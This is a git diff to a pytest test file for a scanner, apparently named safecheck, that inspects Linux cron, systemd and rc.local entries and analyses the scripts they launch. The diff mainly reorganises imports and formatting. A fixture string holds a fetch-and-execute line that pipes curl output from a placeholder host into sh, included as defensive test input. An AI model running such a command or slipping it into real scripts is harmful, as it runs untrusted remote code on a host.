@@ -9,6 +9,7 @@ import pytest
 
 from safecheck.core.entries import Entry
 from safecheck.scan import script_bodies
+from safecheck.scan.analysis.scripts import IsTool, ScriptMatch, analyse_script
 from safecheck.scan.collectors.host import Host
 
 SCRIPT = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n. /opt/inner.sh\n"
@@ -25,8 +26,13 @@ def _root(tmp_path: Path) -> Host:
 def _entries() -> list[Entry]:
     return [
         Entry("linux.cron", "cron-job", "/etc/crontab", "job", program="/opt/run.sh", line=3),
-        Entry("linux.systemd", "systemd-unit", "/etc/systemd/system/a.service", "a.service",
-              program="/opt/run.sh"),  # fmt: skip
+        Entry(
+            "linux.systemd",
+            "systemd-unit",
+            "/etc/systemd/system/a.service",
+            "a.service",
+            program="/opt/run.sh",
+        ),
         Entry("linux.boot", "rc-local", "/opt/run.sh", "rc.local"),
     ]
 
@@ -36,11 +42,9 @@ def test_a_script_started_by_several_entries_is_judged_once(
 ) -> None:
     host = _root(tmp_path)
     judged: list[str] = []
-    original = script_bodies.analyse_script
+    original = analyse_script
 
-    def counting(
-        text: str, is_tool: script_bodies.IsTool | None = None
-    ) -> list[script_bodies.ScriptMatch]:
+    def counting(text: str, is_tool: IsTool | None = None) -> list[ScriptMatch]:
         judged.append(text)
         return original(text, is_tool)
 
